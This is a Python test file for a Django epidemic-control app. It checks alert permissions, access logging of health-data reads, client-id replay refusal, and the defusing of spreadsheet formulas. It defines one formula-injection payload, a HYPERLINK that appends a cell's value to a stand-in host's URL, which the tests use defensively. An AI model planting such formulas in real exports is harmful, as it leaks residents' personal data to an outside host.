"""What a review of the daily-rounds apps found, pinned down: who may act on which alert, reads
of health data that must reach the access log, and spreadsheets that must not run formulas."""

from __future__ import annotations

import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from fangyi.core.models import AccessLog
from fangyi.health.models import Declaration, DeclarationStatus
from fangyi.observation.models import Alert, AlertKind, Observation
from fangyi.screening.models import Assignment
from fangyi.transfer import sheets
from tests.conftest import login

pytestmark = pytest.mark.django_db


def _observation_in_jiwu() -> Observation:
    return Observation.objects.filter(node__name="机务小区").order_by("pk").first()


def _alert(kind: str) -> Alert:
    obs = _observation_in_jiwu()
    return Alert.objects.create(observation=obs, node=obs.node, kind=kind, message="test")


def _reads(user) -> int:
    return AccessLog.objects.filter(user=user).count()


def test_missed_follow_up_alerts_are_the_supervisors_not_health_staffs(health, supervisor):
    missed, fever = _alert(AlertKind.MISSED), _alert(AlertKind.FEVER)
    hc = login(health)
    # Health staff act on fever and symptoms; an escalation of missed follow-ups is not theirs,
    # by the page or by the API, exactly as an alert that does not exist.
    assert hc.get(f"/alerts/{missed.pk}/").status_code == 404
    resolve = hc.post(
        f"/api/alerts/{missed.pk}/resolve", {"resolution": "阅"}, content_type="application/json"
    )
    assert resolve.status_code == 404
    missed.refresh_from_db()
    assert missed.resolved_at is None
    assert hc.get(f"/alerts/{fever.pk}/").status_code == 200
    assert login(supervisor).get(f"/alerts/{missed.pk}/").status_code == 200


def test_the_alert_page_logs_the_read(health):
    fever = _alert(AlertKind.FEVER)
    before = _reads(health)
    assert login(health).get(f"/alerts/{fever.pk}/").status_code == 200
    assert _reads(health) == before + 1


def test_correcting_a_self_report_logs_the_read(grid_worker):
    pending = Declaration.objects.filter(
        status=DeclarationStatus.PENDING, node__name="机务小区"
    ).first()
    assert pending is not None  # the demo city holds one
    before = _reads(grid_worker)
    response = login(grid_worker).get(f"/declarations/{pending.pk}/confirm/")
    assert response.status_code == 200
    assert _reads(grid_worker) == before + 1


def test_a_refused_decision_form_logs_the_read_it_shows(health):
    awaiting = (
        Declaration.objects.filter(status=DeclarationStatus.CONFIRMED, node__name="机务小区")
        .exclude(proposal="cleared")
        .first()
    )
    before = _reads(health)
    # A changed outcome without a reason: the form comes back on the whole declaration.
    response = login(health).post(
        f"/declarations/{awaiting.pk}/decision/", {"outcome": "cleared", "reason": ""}
    )
    assert response.status_code == 200
    assert _reads(health) == before + 1


def test_a_door_form_with_errors_logs_the_read_it_shows(grid_worker):
    door = Assignment.objects.filter(assignee=grid_worker, sweep__status="open").first()
    before = _reads(grid_worker)
    response = login(grid_worker).post(f"/doors/{door.pk}/", {"outcome": "teleported"})
    assert response.status_code == 400
    assert _reads(grid_worker) == before + 1


FORMULA = '=HYPERLINK("http://x.example/?"&C2,"点我")'


def test_an_xlsx_export_keeps_formula_like_text_as_text():
    out = io.BytesIO()
    sheets.write_xlsx(out, ["地址", "手机号码"], [[FORMULA, "13977110001"]])
    out.seek(0)
    sheet = load_workbook(out).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"
    assert cell.value == FORMULA


def test_a_csv_export_defuses_formulas_and_the_import_reads_them_back_as_typed():
    out = io.BytesIO()
    headers = sheets.template_headers("hant")
    row = [""] * len(headers)
    row[headers.index("地址")] = FORMULA
    row[headers.index("姓名")] = "+张三"
    sheets.write_csv(out, headers, [row])
    text = out.getvalue().decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'+张三" in text
    sheet = sheets.read_sheet(out.getvalue(), sheets.CSV)
    _line, cells = sheet.rows[0]
    values = sheet.values(cells)
    assert FORMULA in values.values()
    assert "+张三" in values.values()


def test_a_client_id_of_another_persons_declaration_is_refused(grid_worker, jiwu_person):
    import uuid

    from fangyi.health.services import DeclarationInput, declaration_record
    from fangyi.people.models import Person

    other = Person.objects.filter(node=jiwu_person.node).exclude(pk=jiwu_person.pk).first()
    key = uuid.uuid4()
    data = DeclarationInput(declared_on=timezone.localdate())
    first = declaration_record(actor=grid_worker, person=jiwu_person, data=data, client_id=key)
    # the same retry answers with the same record
    again = declaration_record(actor=grid_worker, person=jiwu_person, data=data, client_id=key)
    assert again.pk == first.pk
    # the same id for someone else is refused, naming the field, and tells nothing
    with pytest.raises(Exception) as refused:
        declaration_record(actor=grid_worker, person=other, data=data, client_id=key)
    assert refused.value.status == 409
    assert refused.value.as_dict()["errors"][0]["field"] == "client_id"
    assert jiwu_person.name not in str(refused.value.as_dict())


def test_a_client_id_of_an_observation_elsewhere_is_refused(health, supervisor, beihu_person):
    """The reviewer's case: the Wuliting supervisor replays the client id of an observation
    in 北湖 and got that observation back."""
    import uuid

    from fangyi.core.errors import Conflict
    from fangyi.observation.services import observation_start

    key = uuid.uuid4()
    theirs = observation_start(
        actor=health,
        person=beihu_person,
        kind="home",
        last_exposure=timezone.localdate(),
        client_id=key,
    )
    mine = Observation.objects.filter(node__name="机务小区").first().person
    with pytest.raises(Conflict) as refused:
        observation_start(
            actor=supervisor,
            person=mine,
            kind="home",
            last_exposure=timezone.localdate(),
            client_id=key,
        )
    assert refused.value.as_dict()["errors"][0]["field"] == "client_id"
    assert beihu_person.name not in str(refused.value.as_dict())
    assert Observation.objects.filter(client_id=key).get().pk == theirs.pk


def test_the_household_page_lists_its_doors_in_sweeps(grid_worker, outsider):
    door = Assignment.objects.filter(needs_police=True).select_related("household").first()
    assert door is not None  # the demo sweep has a refused door
    page = login(grid_worker).get(f"/households/{door.household_id}/")
    assert f"/households/{door.household_id}/doors/" in page.content.decode()
    panel = login(grid_worker).get(
        f"/households/{door.household_id}/doors/", HTTP_HX_REQUEST="true"
    )
    assert panel.status_code == 200
    assert f"/doors/{door.pk}/" in panel.content.decode()
    assert door.sweep.purpose in panel.content.decode()
    # another station's officer: not found, like a household that does not exist
    assert login(outsider).get(f"/households/{door.household_id}/doors/").status_code == 404
